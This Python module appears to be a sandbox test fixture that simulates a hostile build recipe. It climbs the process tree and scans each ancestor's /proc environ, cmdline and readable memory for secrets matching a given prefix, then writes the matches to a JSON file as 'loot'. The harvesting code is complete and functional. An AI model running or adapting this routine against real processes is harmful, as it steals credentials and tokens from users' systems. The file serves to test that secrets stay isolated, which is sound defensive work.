"""What a hostile recipe does to steal the credentials of the process that runs it.

Walks every ancestor of this process (PPid by PPid, up to and including `stop_pid`: the test
that started the run, so the walk never leaves the test's own processes) and tries, for each, to read
`/proc/<pid>/environ`, `/proc/<pid>/cmdline` and its memory (`/proc/<pid>/maps`, then every
readable private region through `/proc/<pid>/mem`). Wherever a byte string starting with the
given prefix turns up, the attacker keeps the prefix and the next characters: that is the loot it
publishes. Usable as a module (`attack(prefix, stop_pid)`) and as a script:

    python3 proc_attack.py PREFIX STOP_PID OUT.json

writes {"ancestors": [...], "loot": [...]} to OUT.json (the recipe then ships that file)."""
import json
import os
import re
import sys

MAX_REGION = 256 << 20  # skip larger mappings (address-space reservations)


def _parent(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        return 0
    return 0


def _comm(pid):
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError as e:
        return f"? ({e.strerror})"


def _grab(blob, pattern, where, loot, hits):
    for m in pattern.finditer(blob):
        loot.add(m.group(0).decode("latin-1"))
        hits.append(where)


def _read_file(path):
    try:
        with open(path, "rb") as f:
            return f.read(), "read"
    except OSError as e:
        return b"", f"denied ({e.strerror})"


def _read_memory(pid, pattern, loot, hits):
    """Reads every readable region of `pid`; returns (status, bytes read)."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
    except OSError as e:
        return f"maps denied ({e.strerror})", 0
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        return f"mem denied ({e.strerror})", 0
    total = 0
    errors = 0
    with mem:
        for line in maps:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            perms = parts[1]
            path = parts[5] if len(parts) > 5 else ""
            # Heap, stack and anonymous memory: where environment blocks and copies live.
            if perms[0] != "r" or end - start > MAX_REGION or (path and not path.startswith("[")):
                continue
            if path in ("[vvar]", "[vsyscall]"):
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                errors += 1
                continue
            total += len(data)
            _grab(data, pattern, f"{pid}:mem", loot, hits)
    if total == 0 and errors:
        return "mem denied (every region)", 0
    return "read", total


def attack(prefix, stop_pid):
    pattern = re.compile(re.escape(prefix.encode()) + rb"[A-Za-z0-9+/=_-]{8,64}")
    loot = set()
    ancestors = []
    pid = _parent(os.getpid())
    while pid > 0:
        hits = []
        environ, env_status = _read_file(f"/proc/{pid}/environ")
        _grab(environ, pattern, f"{pid}:environ", loot, hits)
        cmdline, cmd_status = _read_file(f"/proc/{pid}/cmdline")
        _grab(cmdline, pattern, f"{pid}:cmdline", loot, hits)
        mem_status, mem_bytes = _read_memory(pid, pattern, loot, hits)
        ancestors.append({"pid": pid, "comm": _comm(pid), "environ": env_status,
                          "environ_bytes": len(environ), "cmdline": cmd_status,
                          "mem": mem_status, "mem_bytes": mem_bytes, "hits": sorted(set(hits))})
        if pid == stop_pid:
            break
        pid = _parent(pid)
    else:
        raise SystemExit(f"proc_attack: {stop_pid} is not an ancestor of {os.getpid()}")
    return {"ancestors": ancestors, "loot": sorted(loot)}


if __name__ == "__main__":
    result = attack(sys.argv[1], int(sys.argv[2]))
    with open(sys.argv[3], "w") as f:
        json.dump(result, f, indent=1)
